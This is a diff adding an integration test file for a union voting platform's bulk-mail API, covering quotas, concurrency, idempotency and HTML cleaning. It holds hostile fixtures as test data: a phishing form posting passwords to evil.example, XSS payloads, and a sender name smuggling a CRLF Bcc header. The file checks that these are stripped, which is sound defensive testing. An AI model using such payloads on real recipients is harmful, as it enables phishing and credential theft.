@@ -1,0 +1,315 @@
+import { randomUUID } from 'node:crypto';
+import type { INestApplication } from '@nestjs/common';
+import { expectFaults, expectProblem } from '../http/expect-problem';
+import { type Answer, TestApp } from '../setup/test-app';
+import { startWorker } from '../setup/test-worker';
+import { Campaigns } from '../voting/support/campaigns';
+import { MailServer } from './support/mail-server';
+import { until } from '../webhooks/support/receiver';
+import { addressOf, mailing, PATH, Post } from './support/post';
+
+const ATTACK = {
+  sujet: 'Votre vote : confirmez votre identité',
+  corpsHtml: `<p>Bonjour,</p><form action="https://evil.example/vol" method="post"><p>Confirmez :</p>
+    <input name="courriel"><input type="password" name="mot-de-passe"><button>Voter</button></form>
+    <img src="http://evil.example/pixel" onerror="alert(1)"><a href="javascript:alert(1)">Voter</a><script>alert(1)</script>`,
+};
+
+const HOUR_MS = 3_600_000;
+
+let app: TestApp;
+let server: MailServer;
+let worker: INestApplication;
+
+beforeAll(async () => {
+  app = await TestApp.start();
+  server = await MailServer.start();
+  worker = await startWorker(mailing(app.config, `${server.url}?tls=off`));
+});
+afterAll(async () => {
+  await worker.close();
+  await server.stop();
+  await app.stop();
+});
+
+describe('A letter with a password form to 1,000 addresses', () => {
+  it('within the quota: 1,000 messages without the form, under the name of the client', async () => {
+    const post = await Post.open(app);
+    await post.client({ nom: 'Syndicat attaqué' });
+    const idExternes = await post.employes(1_000, 'ATT');
+    const { id } = await post.letter({ idExternes }, ATTACK);
+    expect(await post.over(id)).toMatchObject({ envoyes: 1_000 });
+    const mails = await server.readAll('att-');
+    expect(mails).toHaveLength(1_000);
+    expect(new Set(mails.map(({ html }) => html))).toEqual(
+      new Set(['<p>Bonjour,</p><p>Confirmez :</p>\n    Voter\n    <img /><a>Voter</a>']),
+    );
+    expect(new Set(mails.map(({ from }) => from!.text))).toEqual(
+      new Set(['"Syndicat attaqué (staging) via Mandat" <ne-pas-repondre@mandat.test>']),
+    );
+  });
+
+  it('beyond the quota: 429, and nothing is written or sent', async () => {
+    const post = await Post.open(app);
+    await post.client({ quotaCourrielsParJour: 999 });
+    const idExternes = await post.employes(1_000, 'REF');
+    const answer = await post.send('POST', PATH, { destinataires: { idExternes }, ...ATTACK });
+    expectProblem(answer, 429, 'Courriel.QuotaDepasse');
+    expect(await post.rows('SELECT FROM courriel WHERE tenant_id = $1')).toEqual([]);
+    expect(await post.rows('SELECT FROM courriel_destinataire WHERE tenant_id = $1')).toEqual([]);
+    expect(await post.rows(`SELECT FROM pgboss.job WHERE data->>'tenantId' = $1::text`)).toEqual([]);
+  });
+});
+
+/** The UTC offset, in hours, of a time zone in which it is this hour of the day now. */
+function offsetAt(hour: number): number {
+  const offset = hour - new Date().getUTCHours();
+  return offset < -12 ? offset + 24 : offset;
+}
+
+/** The name of the time zone with a UTC offset: POSIX counts westward. */
+function zoneOf(offset: number): string {
+  return offset === 0 ? 'Etc/UTC' : `Etc/GMT${offset > 0 ? '-' : '+'}${Math.abs(offset)}`;
+}
+
+/** A data space with employees `E-0`…, a quota, and noon as the time of the day. */
+async function opened(quotaCourrielsParJour: number, employes: number): Promise<Post> {
+  const post = await Post.open(app);
+  await post.client({ quotaCourrielsParJour, fuseauHoraire: zoneOf(offsetAt(12)) });
+  await post.employes(employes);
+  return post;
+}
+
+/** Asks for a letter to the first employees. */
+function ask(post: Post, count: number, headers: Record<string, string> = {}): Promise<Answer> {
+  const idExternes = Array.from({ length: count }, (_, at) => `E-${at}`);
+  const body = { destinataires: { idExternes }, sujet: 'Assemblée', corpsHtml: '<p>Bonjour</p>' };
+  return post.send('POST', PATH, body, headers);
+}
+
+async function statuses(post: Post, ...counts: number[]): Promise<number[]> {
+  const answered: number[] = [];
+  for (const count of counts) answered.push((await ask(post, count)).status);
+  return answered;
+}
+
+describe('The quota of a day', () => {
+  it('refuses a letter whole that does not fit, says what is left, and takes one that fits exactly', async () => {
+    const post = await opened(10, 11);
+    expect(await statuses(post, 7)).toEqual([202]);
+    const before = Date.now();
+    const answer = await ask(post, 4);
+    const after = Date.now();
+    expectProblem(answer, 429, 'Courriel.QuotaDepasse');
+    const offset = offsetAt(12);
+    const here = new Date(before + offset * HOUR_MS);
+    const midnight =
+      Date.UTC(here.getUTCFullYear(), here.getUTCMonth(), here.getUTCDate() + 1) - offset * HOUR_MS;
+    expect(answer.json.detail).toBe(
+      `The letter has 4 recipients. The quota of 10 e-mails a day has 3 left. It starts anew at ${new Date(midnight).toISOString()}, when a day begins in ${zoneOf(offset)}. Send it after that, or to fewer recipients. Nothing was sent.`,
+    );
+    const seconds = Number(answer.headers.get('retry-after'));
+    expect(seconds).toBeGreaterThanOrEqual(Math.floor((midnight - after) / 1_000));
+    expect(seconds).toBeLessThanOrEqual(Math.ceil((midnight - before) / 1_000));
+    expect(await statuses(post, 3, 1)).toEqual([202, 429]);
+    expect(await post.rows('SELECT FROM courriel WHERE tenant_id = $1')).toHaveLength(2);
+    expect(await post.rows('SELECT FROM courriel_destinataire WHERE tenant_id = $1')).toHaveLength(10);
+  });
+
+  it('says of a letter that is larger than the whole quota that waiting does not help', async () => {
+    const { json } = await ask(await opened(10, 11), 11);
+    expect(json.detail).toContain('11 recipients. The quota of 10 e-mails a day has 10 left.');
+    expect(json.detail).toContain('divide it over several days, or ask the operator for a larger quota');
+  });
+
+  it('of 0 sends nothing', async () => {
+    const post = await opened(0, 1);
+    expect(await statuses(post, 1)).toEqual([429]);
+    await post.client({ quotaCourrielsParJour: 1 });
+    expect(await statuses(post, 1)).toEqual([202]);
+  });
+
+  it('of a new client is 5,000, which its key is told', async () => {
+    const post = await Post.open(app);
+    expect((await post.send('GET', '/b2b/v1/moi')).json.limites.courrielsParJour).toBe(5_000);
+    await post.employes(2_501);
+    expect(await statuses(post, 2_500, 2_501)).toEqual([202, 429]);
+  });
+
+  it('counts recipients without address and doubles, each employee once', async () => {
+    const post = await opened(3, 2);
+    await post.send('POST', '/b2b/v1/employe', { idExterne: 'S', prenom: 'Zoé', nom: 'Roy' });
+    const courriel = addressOf('E-0');
+    await post.send('POST', '/b2b/v1/employe', { idExterne: 'D', prenom: 'Zoé', nom: 'Roy', courriel });
+    await post.letter({ idExternes: ['E-0', 'S', 'D', 'E-0'] });
+    expect(await statuses(post, 1)).toEqual([429]);
+  });
+
+  it('counts voters, and refuses a roll that does not fit', async () => {
+    const post = await opened(4, 1);
+    const campaigns = new Campaigns(app, post.tenant);
+    const campagneId = await campaigns.draft();
+    for (let at = 0; at < 3; at++) await campaigns.votant(campagneId, { Courriel: `v-${at}@example.org` });
+    const destinataires = { campagneId, cible: 'tous' };
+    await post.letter(destinataires);
+    const answer = await post.send('POST', PATH, { destinataires, sujet: 'A', corpsHtml: 'A' });
+    expectProblem(answer, 429, 'Courriel.QuotaDepasse');
+    expect(answer.json.detail).toContain(
+      'The letter has 3 recipients. The quota of 4 e-mails a day has 1 left.',
+    );
+    expect(await post.rows('SELECT FROM courriel_destinataire WHERE tenant_id = $1')).toHaveLength(3);
+  });
+
+  it('begins with the day in the time zone of the client', async () => {
+    const post = await opened(1, 1);
+    expect(await statuses(post, 1)).toEqual([202]);
+    await post.rows(
+      `UPDATE courriel SET date_creation = date_creation - interval '6 hours' WHERE tenant_id = $1`,
+    );
+    // It is noon: six hours ago was today. Where it is one o’clock, six hours ago was yesterday.
+    expect(await statuses(post, 1)).toEqual([429]);
+    await post.client({ fuseauHoraire: zoneOf(offsetAt(1)) });
+    expect(await statuses(post, 1, 1)).toEqual([202, 429]);
+  });
+
+  it('is each data space’s own', async () => {
+    const post = await opened(1, 1);
+    const other = await opened(1, 1);
+    const { json } = await app.send(app.adminKey, 'POST', `/admin/v1/clients/${post.tenant.clientId}/cles`, {
+      ...{ nom: 'P', environnement: 'production', role: 'partenaire' },
+    });
+    await app.send(json.cle, 'POST', '/b2b/v1/employe', { idExterne: 'E-0', prenom: 'Zoé', nom: 'Roy' });
+    expect(await statuses(post, 1, 1)).toEqual([202, 429]);
+    expect(await statuses(other, 1, 1)).toEqual([202, 429]);
+    const body = { destinataires: { idExternes: ['E-0'] }, sujet: 'A', corpsHtml: 'A' };
+    expect((await app.send(json.cle, 'POST', PATH, body)).status).toBe(202);
+    expectProblem(await app.send(json.cle, 'POST', PATH, body), 429, 'Courriel.QuotaDepasse');
+  });
+});
+
+describe('Letters at the same time', () => {
+  it('two that fit one by one and not together: one is sent, one is refused', async () => {
+    const post = await opened(10, 6);
+    // Recipients cannot be written while their rows are locked: both come as far as they can before that.
+    await app.database.query('BEGIN');
+    await post.rows('SELECT FROM employe WHERE tenant_id = $1 FOR UPDATE');
+    const asked = [ask(post, 6), ask(post, 6)];
+    try {
+      await until('both wait', async () => {
+        const { rows } = await app.database.query<{ waiting: number }>(
+          'SELECT count(DISTINCT pid)::int AS waiting FROM pg_locks WHERE NOT granted',
+        );
+        return rows[0]!.waiting >= 2;
+      });
+    } finally {
+      await app.database.query('COMMIT');
+    }
+    const answers = await Promise.all(asked);
+    expect(answers.map(({ status }) => status).sort()).toEqual([202, 429]);
+    const refused = answers.find(({ status }) => status === 429)!;
+    expect(refused.json.detail).toContain('The quota of 10 e-mails a day has 4 left.');
+  });
+
+  it('twenty of 30 recipients: as many are sent as fit', async () => {
+    const post = await opened(100, 30);
+    const answers = await Promise.all(Array.from({ length: 20 }, () => ask(post, 30)));
+    expect(answers.filter(({ status }) => status === 202)).toHaveLength(3);
+    for (const answer of answers)
+      if (answer.status !== 202) expectProblem(answer, 429, 'Courriel.QuotaDepasse');
+    expect(await post.rows('SELECT FROM courriel_destinataire WHERE tenant_id = $1')).toHaveLength(90);
+    expect(await statuses(post, 11, 10)).toEqual([429, 202]);
+  });
+});
+
+describe('What a quota is not used up by', () => {
+  it('a letter that is rolled back at its end', async () => {
+    const post = await opened(5, 5);
+    const fails = `CONSTRAINT fails`;
+    await app.database.query(
+      `ALTER TABLE journal ADD ${fails} CHECK (action <> 'courriel.envoyer') NOT VALID`,
+    );
+    expect(await statuses(post, 5)).toEqual([500]);
+    await app.database.query(`ALTER TABLE journal DROP ${fails}`);
+    expect(await statuses(post, 5)).toEqual([202]);
+  });
+
+  it('a repetition under the same Idempotency-Key', async () => {
+    const post = await opened(6, 3);
+    const key = { 'Idempotency-Key': 'L-1' };
+    const first = await ask(post, 3, key);
+    for (const answer of [await ask(post, 3, key), await ask(post, 3, key)])
+      expect([answer.status, answer.json]).toEqual([202, first.json]);
+    expect(await statuses(post, 3, 1)).toEqual([202, 429]);
+  });
+
+  it('a letter that was refused, which is sent under the same Idempotency-Key once it fits', async () => {
+    const post = await opened(2, 3);
+    const key = { 'Idempotency-Key': 'L-2' };
+    const refused = await ask(post, 3, key);
+    expectProblem(refused, 429, 'Courriel.QuotaDepasse');
+    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
+    await post.client({ quotaCourrielsParJour: 3 });
+    const sent = await ask(post, 3, key);
+    expect([sent.status, sent.headers.get('idempotent-replayed')]).toEqual([202, null]);
+    expect((await ask(post, 3, key)).json).toEqual(sent.json);
+    expect(await statuses(post, 1)).toEqual([429]);
+  });
+});
+
+describe('The body of a letter', () => {
+  it('is stored as it is sent: cleaned', async () => {
+    const post = await Post.open(app);
+    const idExternes = await post.employes(1, 'BODY');
+    const table =
+      '<table width="600" cellpadding="0"><tbody><tr><td style="color:#333">A</td></tr></tbody></table>';
+    const corpsHtml = `${table}<form><input type="password"></form><iframe src="https://e.example"></iframe>`;
+    const { id } = await post.letter({ idExternes }, { corpsHtml });
+    expect(await post.rows('SELECT corps_html FROM courriel WHERE tenant_id = $1')).toEqual([
+      { corps_html: table },
+    ]);
+    await post.over(id);
+    const mails = await server.read(addressOf('BODY-0'));
+    expect(mails.map(({ html }) => html)).toEqual([table]);
+  });
+
+  it.each([
+    ['nothing but a form', '<form><input type="password"></form>', 'empty'],
+    ['too many tags', '<b>a</b>'.repeat(10_001), 'length'],
+  ])('400 for %s, and nothing is written', async (_what, corpsHtml, code) => {
+    const post = await opened(1, 1);
+    const body = { destinataires: { idExternes: ['E-0'] }, sujet: 'A', corpsHtml };
+    expectFaults(await post.send('POST', PATH, body), { '/corpsHtml': code });
+    expect(await post.rows('SELECT FROM courriel WHERE tenant_id = $1')).toEqual([]);
+  });
+});
+
+describe('Names and addresses', () => {
+  it('are those of the client: name, environment, Reply-To; a change holds for the next letter', async () => {
+    const tenant = await app.tenant({ environnement: 'production' });
+    const post = Post.of(app, tenant);
+    await post.employes(1, 'NOM');
+    const send = async (change: object): Promise<Record<string, unknown>> => {
+      await post.client(change);
+      const { id } = await post.letter({ idExternes: ['NOM-0'] });
+      expect(await post.over(id)).toMatchObject({ envoyes: 1 });
+      const mails = await server.read(addressOf('NOM-0'));
+      const { from, replyTo, headers } = mails.at(-1)!;
+      return { from: from!.value, replyTo: replyTo?.value, unsubscribe: headers.has('list-unsubscribe') };
+    };
+    const address = 'ne-pas-repondre@mandat.test';
+    const nom = `Métallos "d'ici" ${randomUUID()}`;
+    expect(await send({ nom })).toEqual({
+      from: [{ name: `${nom} via Mandat`, address }],
+      replyTo: undefined,
+      unsubscribe: false,
+    });
+    expect(
+      await send({ nom: `${nom}\r\nBcc: x@example.org`, adresseDeReponse: 'bureau@example.org' }),
+    ).toEqual({
+      from: [{ name: `${nom} Bcc: x@example.org via Mandat`, address }],
+      replyTo: [{ name: '', address: 'bureau@example.org' }],
+      unsubscribe: false,
+    });
+    expect(await send({ adresseDeReponse: null })).toMatchObject({ replyTo: undefined });
+  });
+});
